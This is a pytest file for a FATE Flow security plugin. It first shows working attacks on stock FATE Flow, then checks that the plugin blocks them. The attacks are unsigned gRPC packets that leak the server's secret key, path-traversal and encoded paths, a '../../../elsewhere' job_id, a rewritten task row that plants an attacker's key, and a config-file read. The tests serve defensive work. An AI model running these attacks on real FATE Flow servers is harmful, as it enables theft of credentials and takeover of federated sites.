"""FATE Flow's gRPC port forwards packets to FATE Flow's own HTTP port. What partners can't do there any more, and what
they still can; each attack is first shown to succeed against FATE's own code."""
import json
import os
import subprocess
from pathlib import Path
from typing import Any, Dict, Iterator, List, NamedTuple, Optional, Tuple

import pytest
import requests

from fate_ext_plugin.audit.search import read
from tests.fate_flow.features import expected, ids_of, section_of
from tests.fate_flow.flow import GUEST, HOST, Flow, Installation, MakeFlow
from tests.fate_flow.switches import CLIENT, HOOKS, KEYS, UNAUTHENTICATED, retcode
from tests.support.site import wait_until

grpc_router = pytest.importorskip("tests.support.grpc_router", reason="grpcio, which FATE brings, is not installed")

BUILT_IN = {kind: f"fate_flow.hook.flow.{kind}" for kind in HOOKS}
AUTHENTICATION = {"client": CLIENT, "site": {"switch": True}}
MODEL_PATHS = [f"/v1/model/{action}/do" for action in ("load", "migrate", "deploy")]

SEND = """
import json, sys
from fate_flow.utils.grpc_utils import gen_routing_metadata, get_command_federation_channel, wrap_grpc_packet

port, packets = int(sys.argv[1]), json.loads(sys.argv[2])
channel, stub = get_command_federation_channel("127.0.0.1", port)
for packet in packets:
    wrapped = wrap_grpc_packet(
        packet["body"], packet["method"], packet["path"], 10000, 9999, packet["job_id"], packet["headers"], 60000)
    answer = stub.unaryCall(wrapped, metadata=gen_routing_metadata(10000, 9999), timeout=60)
    print("ANSWER", answer.body.value.decode())
"""


def packet(path: str, method: str = "POST", body: Any = None, headers: Any = None, job_id: str = "1") -> Dict[str, Any]:
    return {"path": path, "method": method, "body": body or {}, "headers": headers or {}, "job_id": job_id}


def send(flow: Flow, *packets: Dict[str, Any]) -> List[Dict[str, Any]]:
    """Send packets to the server's gRPC port with FATE's own code; returns the answers."""
    output = subprocess.run(
        [flow.installation.python, "-c", SEND, str(flow.grpc_port), json.dumps(packets)], check=True,
        stdout=subprocess.PIPE, text=True, env=flow.environment(), cwd=flow.folder).stdout
    return [json.loads(line[len("ANSWER "):]) for line in output.splitlines() if line.startswith("ANSWER ")]


OUTSIDE = packet("/v1/version/get", job_id="../../../elsewhere")  # FATE Flow makes a folder of this name for its logs
MODEL = {"local": {"role": "host", "party_id": HOST}, "job_parameters": {"model_id": "none", "model_version": "1"}}

NO_MODEL = "model local cache"
ATTACKS = [
    packet("/v1/server/get"), packet("/v1/key/query", body={"party_id": str(GUEST)}), packet("/v1/job/list/job"),
    packet("/v1/forward/fateflow/do"), packet("/v1/operation/json_conf/load"), packet("/v1/ext/health", "GET"),
    packet("/v1/party/../server/get"), packet("//v1/server/get"), packet("/v1/party/%2e%2e/server/get"),
    packet("/v1/model/load/do/../../../server/get"), packet("v1/server/get"), packet("/v1/server/get?/v1/party/1"),
    OUTSIDE, packet("/v1/party/1/guest/9999/status/canceled", "GET"),
]


def make(make_flow: MakeFlow, features: Path, hooks: Dict[str, str], pythonpath: Tuple[Path, ...] = ()) -> Flow:
    """A server with both switches on and these hook modules alone."""
    flow = make_flow(section_of(features, authentication={}), start=False, pythonpath=pythonpath,
                     conf={"party_id": GUEST, "authentication": AUTHENTICATION})
    content = flow.read_conf()
    content["hook_module"] = hooks
    flow.write_conf(content)
    flow.keys = KEYS
    return flow.start()


@pytest.fixture(scope="module")
def fate_alone(make_flow: MakeFlow, features: Path) -> Flow:
    """With FATE's own hooks: the attacks succeed here. Party 10000 signs with this server's key, as below."""
    flow = make(make_flow, features, BUILT_IN)
    key = flow.call("/key/query", {"party_id": GUEST})["data"]
    flow.call("/key/public/save", {"party_id": HOST, "key": key})
    return flow


@pytest.fixture(scope="module")
def guarded(make_flow: MakeFlow, features: Path, fate_alone: Flow) -> Flow:
    """With our hooks. Party 10000, in whose name the attacks are signed, has this server's key."""
    flow = make(make_flow, features, HOOKS)
    flow.share_key(HOST)
    return flow


# -- the attacks succeed against FATE Flow alone ---------------------------------------------------------------------


def test_fate_flow_alone_answers_an_unsigned_packet_with_its_secrets(fate_alone: Flow) -> None:
    """Over HTTP the request is refused; through gRPC, FATE Flow signs it itself."""
    assert retcode(requests.post(f"{fate_alone.url}/v1/server/get", json={}, timeout=30)) == UNAUTHENTICATED
    stolen, jobs, _ = send(fate_alone, packet("/v1/server/get"), packet("/v1/job/list/job"), OUTSIDE)
    assert stolen["data"]["AUTHENTICATION"]["client"]["http_secret_key"] == KEYS[1]
    assert jobs["retcode"] == 0
    assert (fate_alone.folder.parent / "elsewhere").exists()


def test_fate_flow_alone_lets_a_partner_use_its_app_key_through_a_task(fate_alone: Flow) -> None:
    assert save_key_through_a_task(fate_alone) == "the attacker's"


def test_fate_flow_alone_lets_a_partner_read_its_files(fate_alone: Flow) -> None:
    assert retcode(read_file(fate_alone)) == 0


def test_fate_flow_alone_lends_a_client_its_app_key(fate_alone: Flow) -> None:
    """Whoever may call /v1/forward/ may call all."""
    assert "AUTHENTICATION" in read_settings_through_forward(fate_alone)["data"]


# -- and no longer where a module of ours is loaded ------------------------------------------------------------------


@pytest.mark.parametrize("hooks", [
    {"extension": "fate_ext_plugin.mount", **BUILT_IN}, {**BUILT_IN, "permission": "fate_ext_plugin.hook.permission"},
    {**BUILT_IN, "client_authentication": HOOKS["client_authentication"]},
    {**BUILT_IN, "site_authentication": HOOKS["site_authentication"]},
], ids=["mount", "permission", "client_authentication", "site_authentication"])
def test_each_module_of_ours_keeps_packets_to_the_paths_that_partners_need(
    make_flow: MakeFlow, features: Path, hooks: Dict[str, str]
) -> None:
    flow = make(make_flow, features, hooks)
    for attack, answer in zip(ATTACKS, send(flow, *ATTACKS)):
        assert set(answer) == {"retcode", "retmsg"} and answer["retcode"] == UNAUTHENTICATED, (attack, answer)
    assert not (flow.folder.parent / "elsewhere").exists()
    assert "refuses a gRPC packet of party 10000" in flow.log()
    flow.stop()


def test_a_refused_packet_is_in_the_audit_trail(guarded: Flow) -> None:
    send(guarded, packet("/v1/server/get"))
    folder = guarded.folder / "fateflow" / "fate_ext" / "audit"
    entry = wait_until(lambda: next((entry for entry in read(folder) if entry["reason"] == "gRPC path"), None))
    assert (entry["check"], entry["allowed"], entry["who"]) == ("site", False, str(HOST))
    assert entry["what"] == "POST /v1/server/get"


def test_a_partner_can_no_longer_use_our_app_key_through_a_task(guarded: Flow) -> None:
    assert save_key_through_a_task(guarded) is None


def test_a_partner_can_no_longer_read_our_files(guarded: Flow) -> None:
    assert retcode(read_file(guarded)) == UNAUTHENTICATED


def test_a_client_bound_to_forward_can_no_longer_use_our_app_key(guarded: Flow) -> None:
    assert read_settings_through_forward(guarded)["retcode"] == UNAUTHENTICATED


@pytest.mark.parametrize("path", [*MODEL_PATHS, "/v1/model/load/do/"])
def test_a_models_path_needs_the_signature_of_a_site(guarded: Flow, path: str) -> None:
    """FATE Flow signed these for anybody. Neither a client's nor a site's signature: refused, on either way in."""
    wrong = {"SRC-PARTY-ID": str(HOST), "SITE-SIGNATURE": "eA=="}
    for headers in ({}, wrong):
        answer = requests.post(f"{guarded.url}{path}", json=MODEL, headers=headers, timeout=30)
        assert retcode(answer) == UNAUTHENTICATED
        assert send(guarded, packet(path, body=MODEL, headers=headers))[0]["retcode"] == UNAUTHENTICATED
    if path in MODEL_PATHS:
        signed = guarded.site_headers(HOST, MODEL)
        assert send(guarded, packet(path, body=MODEL, headers=signed))[0]["retcode"] != UNAUTHENTICATED


def test_a_client_may_still_call_the_models_paths_with_its_own_signature(guarded: Flow) -> None:
    assert NO_MODEL in guarded.post("/model/load/do", MODEL).json()["retmsg"]


def test_where_grpc_cannot_be_restricted_every_request_is_refused(
    make_flow: MakeFlow, features: Path, tmp_path: Path
) -> None:
    """Here a module that changes FATE Flow's gRPC service stands for a FATE Flow that we do not know."""
    (tmp_path / "another_release.py").write_text(
        "from fate_flow.utils import grpc_utils\ngrpc_utils.UnaryService.push = staticmethod(lambda *_: None)\n")
    hooks = {**HOOKS, "client_authentication": f"another_release;{HOOKS['client_authentication']}"}
    flow = make(make_flow, features, {"extension": "fate_ext_plugin.mount", **hooks}, (tmp_path,))
    says = "gRPC port can't be restricted"
    scheduling = f"{flow.url}/v1/party/1/guest/{GUEST}/status/canceled"
    for answer in (flow.post("/version/get"), requests.post(scheduling, json={}, timeout=30)):
        assert retcode(answer) == UNAUTHENTICATED
    assert says in flow.log()
    ready = requests.get(f"{flow.url}/v1/ext/ready", timeout=30)
    assert ready.status_code == 503
    status, printed = flow.command("check", "--conf", str(flow.conf))
    assert status == 1 and "The server's FATE Flow is not supported" in printed, printed
    flow.stop()


# -- what partners need works through gRPC ---------------------------------------------------------------------------


class Sites(NamedTuple):
    guest: Flow
    host: Flow
    forwarded: Dict[str, int]


@pytest.fixture(scope="module")
def sites(
    make_flow: MakeFlow, features: Path, guarded: Flow, tmp_path_factory: pytest.TempPathFactory
) -> Iterator[Sites]:
    """Two sites with both switches on that reach each other, and themselves, through gRPC only."""
    if os.environ.get("FATE_FLOW_MYSQL") == "1":
        pytest.skip("two servers on one MySQL would run each other's jobs")
    section = section_of(features, authentication={})
    guest, host = (make_flow(section, start=False) for _ in range(2))
    router = grpc_router.GrpcRouter({str(GUEST): guest.grpc_port, str(HOST): host.grpc_port}).start()
    proxy = {"name": "rollsite", "host": "127.0.0.1", "grpc_port": router.port}
    for flow, party in ((guest, GUEST), (host, HOST)):
        flow.keys = KEYS
        flow.configure(section, {"party_id": party, "authentication": AUTHENTICATION, "hook_module": HOOKS,
                                 "fateflow": {"proxy": proxy, "protocol": "grpc"}})
    guest.start()
    host.start(beside=guest)
    keys = tmp_path_factory.mktemp("keys")
    for here, there, party in ((guest, host, GUEST), (host, guest, HOST)):
        here.fate_ext("key", "export", str(keys / f"{party}.pem"))
        there.fate_ext("key", "add", str(party), str(keys / f"{party}.pem"))
        here.upload_table("ids", ids_of(range(990, 1010)))
    yield Sites(guest, host, router.forwarded)
    router.stop()


def test_a_two_party_job_runs_through_grpc(sites: Sites, installation: Installation) -> None:
    job_id = sites.guest.submit(apart=True)
    ended = sites.guest.wait(job_id)
    if installation.api_reader_works:
        assert ended == "success", sites.guest.report(job_id)
        assert sites.host.output(job_id) == expected(range(990, 1010))
    assert min(sites.forwarded.values()) > 10
    for flow in sites[:2]:
        assert "refuses a gRPC packet" not in flow.log()


@pytest.mark.parametrize("action", ["load", "migrate"])
def test_a_models_request_reaches_the_partners_code_through_grpc(sites: Sites, action: str) -> None:
    """There is no such model; what says so stands behind the partner's authentication."""
    roles = {"guest": [GUEST], "host": [HOST]}
    answer = sites.guest.post(f"/model/{action}", {
        "initiator": {"role": "guest", "party_id": GUEST}, "role": roles, "model_id": "none", "model_version": "1",
        "job_parameters": {"model_id": "none", "model_version": "1", "federated_mode": "MULTIPLE"},
        "migrate_initiator": {"role": "guest", "party_id": GUEST}, "execute_party": roles,
        "migrate_role": {"guest": [99], "host": [100]}}).json()
    for role, party in (("guest", GUEST), ("host", HOST)):
        assert NO_MODEL in answer["data"]["detail"][role][str(party)]["retmsg"], answer


# -- the attacks -----------------------------------------------------------------------------------------------------


def save_key_through_a_task(flow: Flow) -> Optional[str]:
    """A task's row names the server that runs it, a partner may write the row, and a request to stop the task is
    forwarded there. This one goes to FATE Flow's own interface, to save a key of the attacker's; returns that key."""
    flow.upload_table("ids", ids_of(range(3)))
    job_id = flow.submit(alone=True)
    flow.wait(job_id)
    task = flow.call("/job/task/query", {"job_id": job_id, "component_name": "reader_0"})["data"][0]
    path = f"/v1/party/{job_id}/reader_0/{task['f_task_id']}/{task['f_task_version']}/guest/{GUEST}"
    row = {"run_ip": f"127.0.0.1:{flow.port}/v1/key/public/save?", "run_port": 1}
    for action, body in (("update", row), ("stop/canceled", {"party_id": "666", "key": "the attacker's"})):
        assert retcode(ask_as_partner(flow, f"{path}/{action}", body)) == 0
    key: Optional[str] = flow.call("/key/query", {"party_id": "666"}).get("data")
    return key


def read_file(flow: Flow) -> requests.Response:
    body = {"config_path": str(flow.installation.base / "fateflow" / "conf" / "component_registry.json")}
    return ask_as_partner(flow, "/v1/operation/json_conf/load", body)


def read_settings_through_forward(flow: Flow) -> Dict[str, Any]:
    """By a server of the registry that is FATE Flow itself, as the plugin's own is where it is mounted."""
    flow.call("/server/itself/register", {"host": "127.0.0.1", "port": flow.port, "protocol": "http"})
    header = {"ENDPOINT": "/v1/server/get", "endpoint": "/v1/server/get"}
    return dict(flow.post("/forward/itself/do", {"header": header, "body": {"a": 1}}).json())


def ask_as_partner(flow: Flow, path: str, body: Any) -> requests.Response:
    """Over HTTP, with a valid signature of party 10000."""
    return requests.post(flow.url + path, json=body, headers=flow.site_headers(HOST, body), timeout=60)
